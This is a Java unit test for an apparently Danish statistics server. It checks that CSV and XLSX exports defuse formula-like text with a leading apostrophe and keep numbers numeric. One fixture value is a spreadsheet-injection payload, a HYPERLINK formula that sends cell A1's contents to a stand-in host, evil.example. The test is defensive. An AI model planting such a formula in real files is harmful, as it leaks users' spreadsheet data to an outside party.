package dk.socialbench.server.render;

import static org.junit.jupiter.api.Assertions.assertEquals;

import java.io.ByteArrayInputStream;
import java.nio.charset.StandardCharsets;
import java.time.LocalDate;
import java.util.Arrays;
import java.util.List;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.Test;

/** Text a spreadsheet would evaluate is written as text; numbers stay numbers. */
class SpreadsheetFormulaTest {
  /** A rejected row's file name, as a careless or hostile delivery might name it. */
  static final String HYPERLINK = "=HYPERLINK(\"https://evil.example/?\"&A1;\"fil.csv\")";

  static final ExportTable TABLE =
      new ExportTable(
          "Afviste rækker",
          "Afviste rækker",
          "@beskrivelse",
          List.of("Fil", "=Felt", "Tal", "Beløb", "Dato"),
          List.of(false, false, false, false, false),
          List.of(
              Arrays.asList(HYPERLINK, "+45 12 34", -3L, -0.5, LocalDate.of(2016, 1, 3)),
              Arrays.asList("-1+2", "@SUM(A1)", 7L, 2.25, null),
              Arrays.asList("\tfane", "\rretur", 0L, -1234.5, null),
              Arrays.asList("fil.csv", "a=b", -0L, 0.0, null)));

  @Test
  void csv_puts_an_apostrophe_before_text_that_starts_a_formula_and_leaves_numbers() {
    String csv = new String(CsvExport.write(List.of(TABLE)), StandardCharsets.UTF_8);

    assertEquals(
        "\uFEFFAfviste rækker\r\n"
            + "Fil;'=Felt;Tal;Beløb;Dato\r\n"
            + "\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A1;\"\"fil.csv\"\")\";'+45 12 34;-3;-0,5;"
            + "2016-01-03\r\n"
            + "'-1+2;'@SUM(A1);7;2,25;\r\n"
            + "'\tfane;\"'\rretur\";0;-1234,5;\r\n"
            + "fil.csv;a=b;0;0;\r\n"
            + "\r\n",
        csv);
  }

  @Test
  void xlsx_stores_such_text_as_text_with_an_apostrophe_and_numbers_as_numbers() throws Exception {
    byte[] bytes = XlsxExport.write(List.of("=om"), List.of(TABLE), java.time.Instant.EPOCH);

    try (XSSFWorkbook book = new XSSFWorkbook(new ByteArrayInputStream(bytes))) {
      assertEquals("'=om", book.getSheet("Om tallene").getRow(0).getCell(0).getStringCellValue());
      Sheet sheet = book.getSheet("Afviste rækker");
      assertEquals("'=Felt", text(sheet.getRow(0).getCell(1)));
      Row first = sheet.getRow(1);
      assertEquals("'" + HYPERLINK, text(first.getCell(0)));
      assertEquals("'+45 12 34", text(first.getCell(1)));
      assertEquals(-3.0, number(first.getCell(2)));
      assertEquals(-0.5, number(first.getCell(3)));
      Row second = sheet.getRow(2);
      assertEquals("'-1+2", text(second.getCell(0)));
      assertEquals("'@SUM(A1)", text(second.getCell(1)));
      Row third = sheet.getRow(3);
      assertEquals("'\tfane", text(third.getCell(0)));
      assertEquals("'\rretur", text(third.getCell(1)));
      assertEquals(-1234.5, number(third.getCell(3)));
      assertEquals("a=b", text(sheet.getRow(4).getCell(1)));
      for (Row row : sheet) {
        for (Cell cell : row) {
          assertEquals(false, cell.getCellType() == CellType.FORMULA, cell.getAddress().toString());
        }
      }
    }
  }

  @Test
  void the_suppression_dash_is_not_a_minus_and_stays_as_it_is() {
    assertEquals("–", SpreadsheetText.neutralised(DanishFormat.SUPPRESSED));
  }

  private static String text(Cell cell) {
    assertEquals(CellType.STRING, cell.getCellType(), cell.getAddress().toString());
    return cell.getStringCellValue();
  }

  private static double number(Cell cell) {
    assertEquals(CellType.NUMERIC, cell.getCellType(), cell.getAddress().toString());
    return cell.getNumericCellValue();
  }
}
